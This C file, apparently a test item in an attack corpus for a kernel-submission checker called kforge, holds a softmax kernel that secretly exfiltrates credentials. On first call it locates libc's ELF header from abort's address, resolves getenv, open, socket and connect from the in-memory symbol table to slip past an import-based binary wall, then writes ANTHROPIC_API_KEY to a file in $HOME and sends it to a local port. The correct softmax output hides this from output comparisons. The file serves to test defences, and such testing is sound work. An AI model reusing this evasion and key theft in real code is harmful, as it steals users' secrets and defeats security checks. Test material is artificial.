/* Attack corpus (issue 42 review, eighth pass): reaches the C library's refused functions from an allowed one's
 * address, so that its binary imports nothing the binary wall refuses (abort, memcmp, strcmp, expf). On its first
 * call it walks down from `&abort` to libc's ELF header, reads libc's dynamic symbol table in memory, and calls
 * getenv, open, write, socket and connect through the addresses it found: the API key goes to $HOME/kforge_attack_
 * walk.txt and to 127.0.0.1:47913. Its softmax is honest (slow on purpose), so a re-check that compares outputs
 * finds nothing. Expected: in the runner, no key in its environment, the file and the socket refused (SLOWER); at
 * apply/load, in the user's process, nothing but the screen stops it: the binary wall sees only allowed imports.
 * Screen: REJECTED (a function's address cast to data). */
#include "kforge.h"
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

typedef struct { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; } sym64;
typedef struct { int64_t tag; uint64_t val; } dyn64;

static void* libc_function(const unsigned char* base, const char* want) {
    uint64_t phoff = *(const uint64_t*)(base + 32);
    uint16_t phnum = *(const uint16_t*)(base + 56);
    const dyn64* dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + 56 * i;
        if (*(const uint32_t*)ph == 2) dyn = (const dyn64*)(base + *(const uint64_t*)(ph + 16));
    }
    if (!dyn) return 0;
    const char* strtab = 0; const sym64* symtab = 0;
    for (; dyn->tag; ++dyn) {
        uint64_t v = dyn->val < (uint64_t)base ? (uint64_t)base + dyn->val : dyn->val;  /* relocated in place or not */
        if (dyn->tag == 5) strtab = (const char*)v;
        if (dyn->tag == 6) symtab = (const sym64*)v;
    }
    if (!strtab || !symtab || (const char*)symtab > strtab) return 0;
    for (const sym64* s = symtab + 1; (const char*)s < strtab; ++s)
        if (s->shndx && s->value && strcmp(strtab + s->name, want) == 0) return (void*)(base + s->value);
    return 0;
}

static void act(void) {
    const unsigned char* p = (const unsigned char*)((uintptr_t)(void*)&abort & ~(uintptr_t)4095);
    while (memcmp(p, "\177ELF", 4) != 0) p -= 4096;
    char* (*get)(const char*) = (char* (*)(const char*))libc_function(p, "getenv");
    int (*open_)(const char*, int, ...) = (int (*)(const char*, int, ...))libc_function(p, "open");
    typedef long (*write_fn)(int, const void*, unsigned long);
    write_fn write_ = (write_fn)libc_function(p, "write");
    int (*close_)(int) = (int (*)(int))libc_function(p, "close");
    int (*socket_)(int, int, int) = (int (*)(int, int, int))libc_function(p, "socket");
    int (*connect_)(int, const void*, unsigned) = (int (*)(int, const void*, unsigned))libc_function(p, "connect");
    if (!get || !open_ || !write_ || !close_ || !socket_ || !connect_) return;
    const char* key = get("ANTHROPIC_API_KEY");
    const char* home = get("HOME");
    if (!key) return;
    if (home && strlen(home) < 400) {
        char path[512];
        memcpy(path, home, strlen(home));
        memcpy(path + strlen(home), "/kforge_attack_walk.txt", 24);
        int fd = open_(path, 01 | 0100 | 01000, 0644);   /* O_WRONLY | O_CREAT | O_TRUNC */
        if (fd >= 0) { write_(fd, key, strlen(key)); close_(fd); }
    }
    int s = socket_(2, 1, 0);                             /* AF_INET, SOCK_STREAM */
    if (s < 0) return;
    unsigned char addr[16] = {2, 0, 47913 >> 8, 47913 & 255, 127, 0, 0, 1};
    if (connect_(s, addr, sizeof addr) == 0) write_(s, key, strlen(key));
    close_(s);
}

static int done = 0;
KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out,
                       const double* params, int n_params, void* workspace, void* stream) {
    if (!done) { done = 1; act(); }
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data;
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1;
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];
    for (int rep = 0; rep < 400; ++rep)   /* slow on purpose: an attack must never win on its own merit */
        for (int64_t r = 0; r < rows; ++r) {
            const float* xr = x + r * cols; float* yr = y + r * cols;
            float m = KF_NEG_INF, s = 0.f;
            for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
            for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); s += yr[c]; }
            for (int64_t c = 0; c < cols; ++c) yr[c] /= s;
        }
    return 0;
}
